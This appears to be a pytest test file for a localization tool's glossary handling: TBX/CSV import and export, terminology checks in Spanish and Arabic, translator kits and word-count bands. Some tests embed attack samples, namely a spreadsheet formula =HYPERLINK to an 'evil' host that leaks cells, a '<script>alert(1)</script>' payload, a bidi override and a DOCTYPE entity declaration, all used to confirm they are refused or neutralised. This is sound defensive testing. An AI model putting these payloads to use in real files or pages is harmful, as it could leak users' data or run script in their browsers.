"""Glossaries (issue 15): TBX/CSV of record, kits that carry the terms, the terminology
check of the QA gate, word counts by match band."""

from __future__ import annotations

import html
import json
from pathlib import Path

import pytest
from lxml import etree

from conftest import SAMPLE
from localize.catalogs.bands import match_bands
from localize.catalogs.glossary import (
    APPROVED,
    DO_NOT_TRANSLATE,
    FORBIDDEN,
    Glossary,
    Term,
    annotate,
)
from localize.catalogs.glossary_files import load_glossary, read_csv, read_tbx, to_csv, to_tbx
from localize.catalogs.po import read_po, write_po
from localize.catalogs.workspace import Workspace
from localize.cli import main
from localize.config import load_config
from localize.errors import CatalogError
from localize.model import Catalog, Entry
from localize.partners.checks import CHECKS, entry_problems
from localize.partners.ingest import ingest_bytes
from localize.partners.routing import route

GLOSSARIES = SAMPLE.parent / "glossary"
COURSE = "intro-course"
EIGEN = Glossary(
    "es",
    (
        Term("eigenvalue", "valor propio", APPROVED, "noun", "of an operator"),
        Term("eigenvalue", "autovalor", FORBIDDEN, "noun"),
        Term("harmonic oscillator", "oscilador armónico", APPROVED, "noun"),
        Term("MATLAB", "", DO_NOT_TRANSLATE, "proper noun"),
    ),
)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# -- 1. the glossary of record: TBX and CSV ----------------------------------------------


def test_tbx_round_trip_keeps_every_field() -> None:
    text = to_tbx(EIGEN)
    root = etree.fromstring(text.encode())
    assert root.tag == "{urn:iso:std:iso:30042:ed-2}tbx" and root.get("type") == "TBX-Basic"
    assert len(root.findall(".//{urn:iso:std:iso:30042:ed-2}conceptEntry")) == 3
    assert sorted(read_tbx(text.encode(), "g.tbx", "es"), key=repr) == sorted(EIGEN.terms, key=repr)


def test_tbx_2_and_weblate_statuses_are_read() -> None:
    data = b"""<?xml version="1.0"?>
<martif type="TBX" xml:lang="en"><text><body>
 <termEntry id="1">
  <langSet xml:lang="en"><tig><term>eigenvalue</term></tig></langSet>
  <langSet xml:lang="es-ES"><tig><term>valor propio</term></tig>
   <tig><term>autovalor</term><termNote type="administrativeStatus">forbidden</termNote></tig></langSet>
 </termEntry>
 <termEntry id="2">
  <langSet xml:lang="en"><tig><term>Python</term></tig></langSet>
  <langSet xml:lang="es"><tig><term>Python</term><termNote type="translationNote">no</termNote></tig></langSet>
 </termEntry>
</body></text></martif>"""
    assert read_tbx(data, "old.tbx", "es") == [
        Term("eigenvalue", "valor propio"),
        Term("eigenvalue", "autovalor", FORBIDDEN),
        Term("Python", "", DO_NOT_TRANSLATE),
    ]


def test_a_tbx_without_the_locale_names_its_languages() -> None:
    with pytest.raises(Exception, match=r"no fr terms \(its languages: es\)"):
        read_tbx(to_tbx(EIGEN).encode(), "g.tbx", "fr")


def test_csv_round_trip_and_bad_rows() -> None:
    assert read_csv(to_csv(EIGEN), "g.csv") == list(EIGEN.terms)
    with pytest.raises(Exception, match="status must be one of"):
        read_csv("term,translation,status\neigenvalue,valor propio,preferred\n", "g.csv")
    with pytest.raises(Exception, match="approved but has no translation"):
        read_csv("term,translation\neigenvalue,\n", "g.csv")


def test_a_control_character_is_refused_at_import_and_the_locale_keeps_working(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A translation holding U+0001 was imported ("3 terms imported") into a TBX file no XML reader
    takes: route, export and every later import of the locale stopped until the file was edited."""
    ws = tmp_path / "ws"
    assert (
        run(capsys, "glossary", "import", str(GLOSSARIES / "es.csv"), "--locale", "es", "--locales-dir", str(ws))[0]
        == 0
    )
    before = (ws / "glossary" / "es.tbx").read_bytes()
    evil = tmp_path / "evil.csv"
    evil.write_text("term,translation\nsyllabus,programa\nlecture,clase\x01 magistral\n", encoding="utf-8")
    code, _out, err = run(capsys, "glossary", "import", str(evil), "--locale", "es", "--locales-dir", str(ws))
    assert code == 2 and err == (
        f"error: {evil}:3: term 'lecture': its translation holds the control character U+0001, which no TBX "
        "file can hold: remove it\n"
    )
    assert (ws / "glossary" / "es.tbx").read_bytes() == before
    assert load_glossary(Workspace(str(ws)), "es").terms


def test_a_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
    """Cells starting with = + - @ ran as formulas in a spreadsheet (=HYPERLINK(...) leaked cells)."""
    g = Glossary(
        "es", (Term('=HYPERLINK("http://evil/?"&A1)', "x"), Term("-ing", "-ando", note="@sum"), Term("plain", "+1"))
    )
    text = to_csv(g)
    assert "\n\"'=HYPERLINK(" in text and "'-ing,'-ando" in text and "'@sum" in text and "'+1" in text
    assert read_csv(text, "g.csv") == list(g.terms)


def test_import_and_export_through_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = tmp_path / "ws"
    code, out, err = run(
        capsys, "glossary", "import", str(GLOSSARIES / "es.csv"), "--locale", "es", "--locales-dir", str(ws)
    )
    assert code == 0, err
    assert (ws / "glossary" / "es.tbx").is_file() and "terms imported" in out
    # a course's own glossary overrides the locale's for its terms
    course_csv = tmp_path / "course.csv"
    course_csv.write_text("term,translation,status,note\nsampling,muestreo digital,approved,\n", encoding="utf-8")
    argv = ["glossary", "import", str(course_csv), "--locale", "es-ES", "--course", COURSE, "--locales-dir", str(ws)]
    assert run(capsys, *argv)[0] == 0
    assert (ws / "glossary" / COURSE / "es_ES.tbx").is_file()
    g = load_glossary(Workspace(str(ws)), "es")
    assert [t.translation for t in g.terms if t.term == "sampling"] == ["muestreo"]
    assert (
        run(
            capsys, "glossary", "export", "--locale", "es", "--out", str(tmp_path / "out.csv"), "--locales-dir", str(ws)
        )[0]
        == 0
    )
    rows = read_csv((tmp_path / "out.csv").read_text(encoding="utf-8"), "out.csv")
    assert Term("problem set", "conjunto de problemas", FORBIDDEN, "noun", "a calque; use lista de problemas") in rows
    assert (
        run(
            capsys, "glossary", "export", "--locale", "es", "--out", str(tmp_path / "out.tbx"), "--locales-dir", str(ws)
        )[0]
        == 0
    )
    assert read_tbx((tmp_path / "out.tbx").read_bytes(), "out.tbx", "es") == rows
    code, _, err = run(
        capsys, "glossary", "export", "--locale", "fr", "--out", str(tmp_path / "x.tbx"), "--locales-dir", str(ws)
    )
    assert code == 2 and "localize glossary import FILE --locale fr" in err
    code, _, err = run(
        capsys, "glossary", "export", "--locale", "es", "--out", str(tmp_path / "x.txt"), "--locales-dir", str(ws)
    )
    assert code == 2 and ".tbx or .csv" in err


# -- 4. the terminology check ---------------------------------------------------------------


def findings(glossary: Glossary, source: str, translation: str) -> list[tuple[str, str]]:
    return [(f.kind, f.term) for f in glossary.check(source, translation)]


@pytest.mark.parametrize(
    ("source", "translation", "expected"),
    [
        ("Find the <em1>eigenvalues</em1>.", "Halle los <em1>valores propios</em1>.", []),
        ("The eigenvalue is real.", "El valor propio es real.", []),
        ("The eigenvalue is real.", "El autovalor es real.", [("forbidden", "eigenvalue"), ("missing", "eigenvalue")]),
        ("Eigenvalues of the harmonic oscillator", "Valores propios del oscilador armonico", []),
        ("Harmonic oscillators", "Osciladores armónicos", []),
        ("Harmonic oscillators", "Osciladores lineales", [("missing", "harmonic oscillator")]),
        ("Run it in MATLAB.", "Ejecútelo en MATLAB.", []),
        ("Run it in MATLAB.", "Ejecútelo en el laboratorio de matrices.", [("translated", "MATLAB")]),
        ("An oscillator", "Un oscilador", []),  # not the term: "harmonic oscillator" is two words
    ],
)
def test_spanish_terms_in_any_inflection(source: str, translation: str, expected: list[tuple[str, str]]) -> None:
    assert findings(EIGEN, source, translation) == expected


def test_arabic_terms_with_article_conjunction_and_plural() -> None:
    g = Glossary(
        "ar",
        (
            Term("eigenvalue", "قيمة ذاتية"),
            Term("Fourier series", "متسلسلة فورييه"),
            Term("Fourier series", "سلسلة فورييه", FORBIDDEN),
        ),
    )
    assert findings(g, "The eigenvalue is real.", "القيمة الذاتيّة حقيقية.") == []
    assert findings(g, "Eigenvalues and Fourier series", "القيم الذاتية ومتسلسلات فورييه") == []
    assert findings(g, "The eigenvalue", "القيمة المميزة") == [("missing", "eigenvalue")]
    assert findings(g, "A Fourier series", "سلسلة فورييه") == [
        ("forbidden", "Fourier series"),
        ("missing", "Fourier series"),
    ]


def test_the_check_is_registered_configurable_and_fed_by_the_context() -> None:
    [check] = [c for c in CHECKS if c.id == "terminology"]
    assert check.severity == "warning" and "forbidden" in check.doc
    entry = Entry("The eigenvalue", "El autovalor", lineno=7)
    assert entry_problems(entry, "f.po") == []  # no glossary, no finding
    problems = entry_problems(entry, "f.po", glossary=EIGEN)
    assert {(p.severity, p.check) for p in problems} == {("warning", "terminology")} and len(problems) == 2
    assert {p.severity for p in entry_problems(entry, "f.po", glossary=EIGEN, checks={"terminology": "error"})} == {
        "error"
    }
    assert entry_problems(entry, "f.po", glossary=EIGEN, checks={"terminology": "off"}) == []


# -- 3 and 7. kits carry the glossary and the word counts; the gate uses it -----------------


def test_route_ingest_with_a_glossary(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "localize.toml").write_text(
        '[workspace]\nlocation = "ws"\n\n[[partners]]\nid = "lima"\nname = "Lima"\nlocales = ["es"]\n'
        'inbox = "inbox"\nrates = { new = 0.1, fuzzy = 0.05, memory = 0.02 }\ncurrency = "USD"\n'
        'checks = { terminology = "warning" }\n',
        encoding="utf-8",
    )
    ws = tmp_path / "ws"
    assert run(capsys, "extract", str(SAMPLE), "--course", COURSE, "--locales-dir", str(ws))[0] == 0
    assert (
        run(capsys, "glossary", "import", str(GLOSSARIES / "es.csv"), "--locale", "es", "--locales-dir", str(ws))[0]
        == 0
    )
    config = load_config(tmp_path / "localize.toml")
    result = route(config, COURSE, "es")
    kit = tmp_path / "inbox" / "kits" / COURSE / "es" / result.assignment.kit
    po = read_po((kit / f"{COURSE}.es.po").read_bytes(), "kit")
    comments = {e.msgid: [c for c in e.extracted_comments if c.startswith("Terms: ")] for e in po.entries}
    assert comments["Midterm exam"] == ["Terms: midterm exam = examen de mitad de semestre"]
    assert comments["<a1>Problem sets</a1> with solutions"] == [
        "Terms: problem set = lista de problemas (not: conjunto de problemas)"
    ]
    assert comments["Course Home"] == []
    assert read_tbx((kit / "glossary.tbx").read_bytes(), "glossary.tbx", "es") == list(
        load_glossary(Workspace(str(ws)), "es").terms
    )
    manifest = json.loads((kit / "kit.json").read_text(encoding="utf-8"))
    assert manifest["glossary"]["terms"] == 11 and manifest["glossary"]["entries_with_terms"] > 5
    assert sum(b["words"] for b in manifest["bands"].values()) == manifest["words_to_translate"]
    assert manifest["estimate"] == {
        "total": round(manifest["bands"]["new"]["words"] * 0.1, 2),
        "currency": "USD",
        "rates": {"new": 0.1, "fuzzy": 0.05, "memory": 0.02},
    }
    readme = (kit / "README.txt").read_text(encoding="utf-8")
    assert "glossary.tbx holds 11 agreed terms" in readme and "estimate at the agreed rates" in readme
    files = readme.split("\n\n")[2].splitlines()  # the list of what the kit holds, after the greeting
    assert [line.split()[0] for line in files] == [f"{COURSE}.es.po", "glossary.tbx", "kit.json"]
    assert " 1 texts " not in readme
    # the translator's own check uses the kit's glossary.tbx
    returned = (SAMPLE.parent / "returns" / f"{COURSE}.es.po").read_text(encoding="utf-8")
    mine = kit / "mine.po"
    mine.write_text(returned, encoding="utf-8")
    _, out, _ = run(capsys, "check", str(mine), "--locale", "es")
    assert "warning: terminology: 'midterm exam' should be translated as 'examen de mitad de semestre'" in out
    # the gate reports it, and a warning does not block the entry
    report = ingest_bytes(config, config.partner("lima"), f"{COURSE}.es.po", returned.encode("utf-8"))
    terms = [p for p in report.problems if p.check == "terminology"]
    assert [p.message for p in terms] == ["'midterm exam' should be translated as 'examen de mitad de semestre'"]
    assert terms[0].severity == "warning" and report.rejected == 1  # the sample's one deliberately bad entry
    # the catalog of record does not keep the kit's Terms comments
    record = Workspace(str(ws)).read_catalog(COURSE, "es")
    assert not any(c.startswith("Terms: ") for e in record.entries for c in e.extracted_comments)


def test_annotate_replaces_old_terms_comments() -> None:
    catalog = Catalog(entries=(Entry("The eigenvalues", extracted_comments=("Placeholders: none", "Terms: old")),))
    annotated, n = annotate(catalog, EIGEN)
    assert n == 1 and annotated.entries[0].extracted_comments == (
        "Placeholders: none",
        "Terms: eigenvalue = valor propio (not: autovalor)",
    )
    assert "#. Terms: eigenvalue = valor propio (not: autovalor)" in write_po(annotated)


def test_match_bands() -> None:
    catalog = Catalog(
        entries=(
            Entry("one two three"),  # new
            Entry("One  two three", msgctxt="attribute"),  # repetition of the first
            Entry("four five", "cuatro cinco", translator_comments=("localize-tm: exact match from c1",)),  # memory
            Entry(
                "six seven eight nine", "x", flags=("fuzzy",), translator_comments=("localize-tm: 80% match from c1",)
            ),
            Entry("ten", "diez", flags=("fuzzy",), previous_msgid="completely different text"),  # below 75 %: new
            Entry("done by a person", "hecho"),  # not counted
            Entry("gone", "ido", obsolete=True),
        )
    )
    bands = match_bands(catalog)
    assert {b: (c.entries, c.words) for b, c in bands.items()} == {
        "new": (2, 4),
        "fuzzy": (1, 4),
        "memory": (1, 2),
        "repetition": (1, 3),
    }


@pytest.mark.parametrize(
    ("locale", "text"),
    [
        ("uz-Arab-AF", "energy,انرژی زیاد\nmass,کتله بزرگ\nforce,قوت زیاد است\n"),
        ("sr-Latn-ME", "energy,energija sistema\nmass,masa tijela\nforce,sila privlačenja\n"),
        ("az-Arab-IR", "energy,انرژی زیاد\nmass,کتله بزرگ\nforce,قوت زیاد است\n"),
    ],
)
def test_the_script_of_a_region_is_the_one_a_glossary_is_checked_against(locale: str, text: str) -> None:
    """Found by a review: once uz-Arab-AF was stored as uz_AF (Arabic being the script of Uzbek
    in Afghanistan), its glossary was checked against Latin, Uzbek's script elsewhere, and refused."""
    from localize.locales import foreign_script

    rows = [line.split(",")[1] for line in text.splitlines()]
    assert foreign_script(locale, rows) is None
    assert foreign_script(locale.split("-")[0], rows) is not None  # the language's usual script elsewhere


def test_a_glossary_of_another_writing_system_is_refused_and_replacements_are_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A CSV names no language: the Arabic sample imported as Spanish used to replace the
    approved Spanish terms, silently."""
    ws = str(tmp_path / "ws")
    assert run(capsys, "glossary", "import", str(GLOSSARIES / "es.csv"), "--locale", "es", "--locales-dir", ws)[0] == 0
    before = (tmp_path / "ws" / "glossary" / "es.tbx").read_bytes()
    code, out, err = run(
        capsys, "glossary", "import", str(GLOSSARIES / "ar.csv"), "--locale", "es", "--locales-dir", ws
    )
    assert (code, out) == (2, "")
    assert err == (
        f"error: {GLOSSARIES / 'ar.csv'}: the translations are in Arabic script, not the one es is written in: "
        "is this the glossary of another language? Nothing imported; import it with --locale set to its language\n"
    )
    assert (tmp_path / "ws" / "glossary" / "es.tbx").read_bytes() == before
    again = tmp_path / "again.csv"
    again.write_text("term,translation\nconvolution,convolución\nsampling,muestreo digital\n", encoding="utf-8")
    code, out, _ = run(capsys, "glossary", "import", str(again), "--locale", "es", "--locales-dir", ws)
    assert code == 0 and out.endswith("; replaced the rows of 2 terms it had, 1 with another translation)\n"), out


def test_comments_and_processing_instructions_in_a_tbx_are_read_past_entities_refused() -> None:
    """lxml yields comments, processing instructions and unresolved entities among the elements:
    a comment inside <term> used to end the import in a ValueError traceback. An entity is never
    resolved, so `&x;` was imported as those characters (and published): refused, naming it."""
    terms = (
        b'<termEntry><!-- c --><?pi x?><langSet xml:lang="en"><tig><term>problem<!--c--> set</term></tig>'
        b'</langSet><langSet xml:lang="es"><tig><term>lista de <?pi?>problemas</term></tig></langSet></termEntry>'
    )
    data = b'<?xml version="1.0"?><!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd"><martif type="TBX"><text><body>'
    rows = read_tbx(data + terms + b"</body></text></martif>", "g.tbx", "es")
    assert [(t.term, t.translation) for t in rows] == [("problem set", "lista de problemas")]
    entity = (
        b'<termEntry><langSet xml:lang="en"><tig><term>wave&x;</term></tig></langSet>'
        b'<langSet xml:lang="es"><tig><term>onda</term></tig></langSet></termEntry>'
    )
    declared = b'<?xml version="1.0"?><!DOCTYPE martif [<!ENTITY x "y">]><martif type="TBX"><text><body>'
    with pytest.raises(CatalogError, match=r"g\.tbx:1: the TBX file declares entities in its DOCTYPE"):
        read_tbx(declared + terms + entity + b"</body></text></martif>", "g.tbx", "es")


def test_a_suggested_row_left_empty_says_how_to_go_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    csv_file = tmp_path / "g.csv"
    csv_file.write_text("term,translation,status,note\nwave,onda,approved,\nfinger ex,,approved,suggested\n")
    code, out, err = run(capsys, "glossary", "import", str(csv_file), "--locale", "es", "--locales-dir", str(tmp_path))
    assert (code, out) == (2, "")
    assert err == (
        f"error: {csv_file}:3: term 'finger ex' is approved but has no translation: fill it in, or delete the row "
        "(the rows of `glossary suggest` start empty; nothing was imported)\n"
    )


def test_imports_past_their_size_are_refused_before_they_are_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 66 MB TMX took 1.2 GB of memory to import; nothing bounded an import (found by an attacker's look)."""
    import localize.app.glossary as glossary_app
    import localize.app.memory as memory_app

    monkeypatch.setattr(glossary_app, "MAX_GLOSSARY_BYTES", 1024 * 1024)
    monkeypatch.setattr(memory_app, "MAX_MEMORY_FILE_BYTES", 1024 * 1024)
    big = tmp_path / "big.csv"
    big.write_text("term,translation\n" + "syllabus,programa\n" * 70_000, encoding="utf-8")
    ws = str(tmp_path / "ws")
    code, _out, err = run(capsys, "glossary", "import", str(big), "--locale", "es", "--locales-dir", ws)
    assert code == 2 and err == f"error: {big}: larger than the 1 MiB a glossary file may be; split it\n"
    big_po = tmp_path / "big.po"
    big_po.write_bytes(b'msgid ""\nmsgstr "Language: es\\n"\n' + b"#" * (1024 * 1024 + 1))
    code, _out, err = run(capsys, "tm", "import", str(big_po), "--locale", "es", "--locales-dir", ws)
    assert code == 2 and err == f"error: {big_po}: larger than the 1 MiB a memory file may be; split it\n"
    assert not (tmp_path / "ws" / "glossary").exists()


@pytest.mark.parametrize("translation", ["<script>alert(1)</script>", "<b>onda</b>", "\u202eadno"])
def test_an_approved_translation_the_qa_gate_would_refuse_is_not_imported(
    translation: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The kit told the translator to use a term the gate refuses (markup, a bidi override; found by
    an attacker look). Only the import refuses it: a glossary already kept still loads."""
    rows = tmp_path / "g.csv"
    rows.write_text(
        f'term,translation,status,note\nless,a<b,approved,"a note\nover two lines"\n\nwave,{translation},approved,\n'
    )
    loc = ["--locale", "es", "--locales-dir", str(tmp_path / "ws")]
    code, _, err = run(capsys, "glossary", "import", str(rows), *loc)
    # the line named (it had none: left alone in session 32); a cell over two lines and a blank line before it
    assert code == 2 and err.startswith(
        f"error: {rows}:5: term 'wave': the QA gate would refuse its approved translation"
    )
    tbx = tmp_path / "g.tbx"
    tbx.write_text(
        '<?xml version="1.0"?>\n<tbx type="TBX-Basic" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text><body>\n'
        '<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>less</term></termSec></langSec>'
        '<langSec xml:lang="es"><termSec><term>menos</term></termSec></langSec></conceptEntry>\n'
        '<conceptEntry id="c2"><langSec xml:lang="en"><termSec><term>wave</term></termSec></langSec>\n'
        '<langSec xml:lang="es"><termSec><term>onda</term></termSec>\n'
        f"<termSec><term>{html.escape(translation)}</term></termSec></langSec></conceptEntry>\n"
        "</body></text></tbx>\n",
        encoding="utf-8",
    )
    code, _, err = run(capsys, "glossary", "import", str(tbx), *loc)
    assert code == 2 and err.startswith(f"error: {tbx}:6: term 'wave': the QA gate would refuse"), err  # its term
    rows.write_text(f"term,translation,status,note\nwave,{translation},forbidden,\nless,a<b,approved,\n")
    assert run(capsys, "glossary", "import", str(rows), *loc)[0] == 0  # what not to write; a lone < is text
    assert Term("wave", translation).translation == translation  # loading never refuses a kept row


def test_a_tbx_import_reads_the_terms_of_the_workspace_source_language(tmp_path: Path) -> None:
    """read_glossary_file never passed the source locale on: a TBX of a French-source workspace was
    read as if its terms were the English ones (a review)."""
    from localize.app.glossary import import_glossary
    from localize.catalogs.workspace import Workspace

    tbx = tmp_path / "g.tbx"
    tbx.write_text(
        '<?xml version="1.0"?>\n<tbx type="TBX-Basic" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text><body>'
        '<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>wave</term></termSec></langSec>'
        '<langSec xml:lang="fr"><termSec><term>onde</term></termSec></langSec>'
        '<langSec xml:lang="es"><termSec><term>onda</term></termSec></langSec></conceptEntry>'
        "</body></text></tbx>\n",
        encoding="utf-8",
    )
    ws = Workspace(str(tmp_path / "ws"))
    import_glossary(ws, str(tbx), "es", source_locale="fr")
    glossary = load_glossary(ws, "es", None, source_locale="fr")
    assert [(t.term, t.translation) for t in glossary.terms] == [("onde", "onda")]
